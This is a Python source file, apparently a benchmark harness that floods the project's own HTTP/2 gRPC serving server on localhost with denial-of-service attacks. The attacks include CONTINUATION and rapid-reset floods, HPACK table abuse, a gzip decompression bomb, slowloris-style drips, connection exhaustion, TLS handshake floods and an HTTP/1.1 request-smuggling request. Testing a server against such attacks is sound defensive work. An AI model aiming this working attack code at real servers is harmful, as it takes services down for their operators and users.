"""The attacks of bench/attacks.py: what each sends, in processes of its own."""
import contextlib
import os
import resource
import signal
import socket
import ssl
import sys
import threading
import time
import zlib

ROOT = os.path.realpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
sys.path.insert(0, os.path.join(ROOT, "tests/python"))
import http2  # noqa: E402

MB = 1 << 20


def field(number, payload):
    return bytes([number << 3 | 2]) + varint(len(payload)) + payload


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def splat(model, dims, key=b"x"):
    """A PredictRequest of one float32 input, one value that stands for all."""
    shape = b"".join(field(2, b"\x08" + varint(dim)) for dim in dims)
    tensor = b"\x08\x01" + field(2, shape) + field(5, b"\0\0\x80\x3f")
    return field(1, field(1, model.encode())) + field(2, field(1, key) + field(2, tensor))


def in_thread(body):
    def quietly():
        with contextlib.suppress(OSError):  # the server cut the connection: good
            body()
    threading.Thread(target=quietly, daemon=True).start()


# Of another host than the neighbour, to the server's limits.
SOURCE = ("127.0.0.2", 0)


class Attack:
    """What the attacks share: the server, when to stop, and who attacks: processes that live until close().

    They are nice: they stand for other machines, and must not hold up the server and its other clients on this one.
    """

    def __init__(self, target, seconds, over):
        self.target, self.seconds, self.over = target, seconds, over
        self.kept, self.group = [], None
        self.end = self.bomb = None
        self.cut, self.cut_pipe = 0, os.pipe()
        for fd in self.cut_pipe:
            os.set_blocking(fd, False)

    def each(self, count, body):
        """Calls body() in so many processes, again after the server has cut its connection, and waits for the end."""
        for _ in range(count):
            if os.fork():
                continue
            try:
                while self.going():
                    try:
                        body()
                        break
                    except OSError:
                        with contextlib.suppress(BlockingIOError):
                            self.count_cut()
                        time.sleep(0.01)
                time.sleep(3600)
            finally:
                os._exit(0)
        self.wait()

    def count_cut(self):
        os.write(self.cut_pipe[1], b"x")

    def cuts(self):
        """How often the server has closed an attacker's connection."""
        with contextlib.suppress(BlockingIOError):
            while True:
                self.cut += len(os.read(self.cut_pipe[0], 65536))
        return self.cut

    def close(self):
        os.killpg(self.group, signal.SIGKILL)
        os.waitpid(self.group, 0)

    def begin(self, name):
        """Runs it, once what it sends is made."""
        if name == "gzip":
            packer, zeros = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(16 * MB)
            self.bomb = b"".join(packer.compress(zeros) for _ in range(64)) + packer.flush()
        self.end = time.monotonic() + self.seconds
        self.group = os.fork()
        if self.group == 0:
            os.setpgid(0, 0)
            os.nice(10)
            with contextlib.suppress(OSError):  # the server cut the connection, or takes no more of it
                getattr(self, name)()
            time.sleep(3600)
        with contextlib.suppress(OSError):
            os.setpgid(self.group, self.group)
        self.wait()

    def going(self):
        return time.monotonic() < self.end and not self.over()

    def connect(self, **options):
        connection = http2.Connection(self.target, source=SOURCE, **options)
        self.kept.append(connection)
        return connection

    def drain(self, connection):
        """Reads what comes, in a thread."""
        def body():
            while connection.socket.recv(1 << 16):
                pass
        in_thread(body)

    def headers(self):
        block = http2.call_headers(more=[("x", "a" * 16384)] * 1024)
        parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]

        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            while self.going():
                stream = connection.stream()
                connection.send(http2.frame(http2.HEADERS, 0, stream, parts[0]))
                for part in parts[1:-1]:
                    connection.send(http2.frame(http2.CONTINUATION, 0, stream, part))
                connection.send(http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, parts[-1]))
        self.each(2, body)

    def resets(self):
        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            headers, cancel = http2.call_headers(), b"\0\0\0\x08"
            while self.going():
                batch = b""
                for _ in range(100):
                    stream = connection.stream()
                    batch += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                    batch += http2.frame(http2.RST_STREAM, 0, stream, cancel)
                connection.send(batch)
        self.each(4, body)

    def streams(self):
        def body():
            connection = self.connect(acknowledge=False, timeout=self.seconds)
            self.drain(connection)
            headers = http2.call_headers()
            for _ in range(250):
                if not self.going():
                    return
                connection.send(b"".join(
                    http2.frame(http2.HEADERS, http2.END_HEADERS, connection.stream(), headers) for _ in range(100)))
        self.each(4, body)

    def repeat(self, data, processes=2, before=b""):
        """Sends the same bytes without end on a connection each, and reads what comes."""
        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            connection.send(before)
            while self.going():
                connection.send(data)
        self.each(processes, body)

    def continued(self, first, part):
        """A header block without end."""
        self.repeat(http2.frame(http2.CONTINUATION, 0, 1, part) * (1 if part else 1000),
                    before=http2.frame(http2.HEADERS, 0, 1, first))

    def literal(self):
        self.continued(http2.call_headers() + b"\x00" + http2.integer(1, 7) + b"x" + http2.integer(1 << 30, 7), b"a" * 16384)

    def empty(self):
        self.continued(http2.call_headers(), b"")

    def blocks(self, block, first=None):
        """Whole header blocks, one a stream, each of which ends at once."""
        parts = [block[at:at + 16384] for at in range(0, len(block), 16384)]

        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            if first is not None:
                connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, connection.stream(), first))
            while self.going():
                stream = connection.stream()
                frames = http2.frame(http2.HEADERS, http2.END_STREAM | (http2.END_HEADERS if len(parts) == 1 else 0), stream, parts[0])
                for i, part in enumerate(parts[1:], 2):
                    frames += http2.frame(http2.CONTINUATION, http2.END_HEADERS if i == len(parts) else 0, stream, part)
                connection.send(frames)
        self.each(2, body)

    def fields(self):
        self.blocks(http2.call_headers(more=[("x", "a" * 1000)] * 4000))

    def references(self):
        entry = b"\x40" + http2.integer(1, 7) + b"x" + http2.integer(4000, 7) + b"a" * 4000  # enters the table as 62
        self.blocks(http2.call_headers() + b"\xbe" * 16000, first=http2.call_headers() + entry)

    def provoked(self):
        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            headers, zero, most = http2.call_headers(), b"\0\0\0\0", b"\x7f\xff\xff\xff"
            while self.going():
                batch = b""
                for wrong in (zero, most) * 50:
                    stream = connection.stream()
                    batch += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                    batch += http2.frame(http2.WINDOW_UPDATE, 0, stream, wrong)
                connection.send(batch)
        self.each(4, body)

    def pings(self):
        self.repeat(http2.frame(http2.PING, 0, 0, bytes(8)) * 1000)

    def settings(self):
        self.repeat(http2.frame(http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1000)

    def updates(self):
        self.repeat(http2.frame(http2.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000)

    def priorities(self):
        self.repeat(b"".join(http2.frame(2, 0, stream, b"\0\0\0\0\1") for stream in range(1, 2001, 2)))

    def bytes(self):
        def body():
            connection = self.connect(timeout=self.seconds)
            self.drain(connection)
            stream = connection.open()
            connection.send(http2.frame(http2.DATA, 0, stream, b"\0" + (60000).to_bytes(4, "big")))
            for _ in range(59):
                if self.going():
                    connection.send(http2.frame(http2.DATA, 0, stream, b"a") * 1000)
        self.each(4, lambda: [body() for _ in range(1000) if self.going()])

    def drip(self, count, first, each):
        """So many connections that send `first` and then the bytes of `each`, one a second."""
        kept = []
        for _ in range(count):
            kept.append(self.plainly(timeout=5))
            kept[-1].sendall(first)
        self.kept += kept
        while self.going():
            time.sleep(1)
            for at, one in enumerate(kept):
                if one is not None:
                    try:
                        one.sendall(each)
                    except OSError:
                        kept[at] = None
                        self.count_cut()

    def slow(self):
        self.drip(500, http2.PREFACE[:4], http2.PREFACE[4:5])

    def bodies(self):
        self.drip(500, http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) +
                  http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.call_headers()), http2.frame(http2.DATA, 0, 1, b"\0"))

    def idle(self):
        host, port = self.target.rsplit(":", 1)

        def body(number):
            kept = []
            for _ in range(5000):
                one = socket.socket()
                one.bind((f"127.0.{1 + number}.1", 0))
                one.settimeout(5)
                one.connect((host, int(port)))
                one.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
                kept.append(one)
            while self.going():
                time.sleep(0.1)
        numbers = iter(range(1000))
        for _ in range(self.idle_connections // 5000):
            number = next(numbers)
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
                    body(number)
                time.sleep(3600)
        self.wait()

    def files(self):
        for _ in range(300):
            with contextlib.suppress(OSError):
                self.kept.append(self.plainly(timeout=1))
        self.wait()

    def plain(self, data, read=True):
        """Bytes of HTTP/1.1 again and again, each time on a new connection once the server closes it."""
        def body():
            with self.plainly(timeout=self.seconds) as one:
                while self.going():
                    one.sendall(data)
                    if read and not one.recv(1 << 16):
                        raise ConnectionError
        self.each(2, lambda: [body() for _ in range(100_000) if self.going()])

    def smuggled(self):
        self.plain(b"POST /healthz HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")

    def lines(self):
        self.plain(b"GET /" + b"a" * MB + b" HTTP/1.1\r\nHost: a\r\n\r\n")

    def pipelined(self):
        self.plain(b"GET /readyz HTTP/1.1\r\nHost: a\r\n\r\n" * 100, read=False)

    def handshakes(self):
        def body():
            while self.going():
                with self.plainly(timeout=5) as one:
                    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                    context.set_alpn_protocols(["h2"])
                    with context.wrap_socket(one):
                        pass
        self.each(4, body)

    def halves(self):
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # of a record that does not come
        for _ in range(2000):
            self.kept.append(self.plainly(timeout=5))
            self.kept[-1].sendall(hello)
        self.wait()

    def plainly(self, timeout):
        host, port = self.target.rsplit(":", 1)
        return socket.create_connection((host, int(port)), timeout=timeout, source_address=SOURCE)

    def gzip(self):
        connection = self.connect()
        stream = connection.open(http2.call_headers(more=[("grpc-encoding", "gzip")]))
        connection.data(stream, http2.message(self.bomb, compressed=True), end=True)
        self.wait()

    def wait(self):
        while self.going():
            time.sleep(0.1)

    def unfinished(self):
        def body():
            connection = self.connect(timeout=self.seconds)
            stream = connection.open()
            connection.data(stream, b"\0" + (200 * MB).to_bytes(4, "big"))
            part = bytes(MB)
            for _ in range(199):
                if not self.going():
                    return
                connection.data(stream, part)
        self.each(16, body)

    def replies(self):
        request = http2.message(splat("wide", [16 * MB]))
        headers = http2.call_headers(more=[("floe-reply", "content")])

        def body():
            connection = self.connect(settings=((http2.INITIAL_WINDOW_SIZE, 0),))
            for _ in range(20):
                connection.data(connection.open(headers), request, end=True)
        self.each(10, body)

    def many(self, request):
        def body():
            connection = self.connect()
            for _ in range(100):
                connection.data(connection.open(), http2.message(request), end=True)
            self.drain(connection)
        self.each(10, body)

    def claims(self):
        self.many(splat("mnist_beginner", [64, MB], b"input"))

    def splats(self):
        self.many(splat("wide", [16 * MB]))

    def reflection(self):
        path = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
        request = http2.message(field(4, b"tensorflow.serving.PredictionService"))

        def body():
            connection = self.connect(settings=((http2.INITIAL_WINDOW_SIZE, 0),))
            stream = connection.open(http2.call_headers(path))
            for _ in range(50):
                if not self.going():
                    return
                connection.data(stream, request * 100)
        self.each(4, body)

    def silent(self):
        for _ in range(500):
            self.kept.append(self.plainly(timeout=5))
        self.wait()


FRAMES = ("headers", "resets", "streams", "gzip", "unfinished", "replies", "claims", "splats", "reflection", "silent", "literal",
          "fields", "empty", "references", "provoked", "pings", "settings", "updates", "priorities", "bytes", "slow", "bodies",
          "idle", "files")
PLAIN = ("smuggled", "lines", "pipelined")
TLS = ("handshakes", "halves")
ATTACKS = FRAMES + PLAIN + TLS
